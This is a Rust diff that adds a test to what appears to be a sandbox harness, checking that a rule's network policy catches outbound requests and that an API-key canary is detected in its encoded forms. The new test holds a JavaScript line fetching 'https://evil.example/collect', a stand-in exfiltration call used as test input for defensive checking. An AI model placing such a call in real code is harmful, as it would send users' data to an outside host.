@@ -1,5 +1,6 @@
 //! The world itself: it must see what no case may do, or every other test proves less than it says.
 
+use super::Scene;
 use crate::house::world::{API_KEY, World, secrets_in};
 use base64::Engine;
 use std::io::{Read, Write};
@@ -44,4 +45,17 @@ fn a_secret_is_known_in_each_of_its_forms_and_nothing_else_is() {
         assert_eq!(secrets_in(&format!("before {form} after")), ["API_KEY"], "{form}");
     }
     assert!(secrets_in(&API_KEY[1..]).is_empty() && secrets_in("canary-").is_empty());
+}
+
+#[test]
+fn the_sink_answers_whom_a_rule_lets_through() {
+    let scene = Scene::start("");
+    let code = "return await (await fetch('https://evil.example/collect')).text();";
+    assert_eq!(scene.result("lax", code), "SINK");
+    let complaints = scene.world.complaints();
+    let about = |word: &str| complaints.iter().any(|what| what.contains(word));
+    assert!(about("/collect") && about("evil.example was resolved"), "{complaints:?}");
+    scene.world.forget();
+    assert_eq!(scene.run("wide", code)["outcome"], "exception");
+    assert_eq!(scene.world.complaints(), Vec::<String>::new());
 }
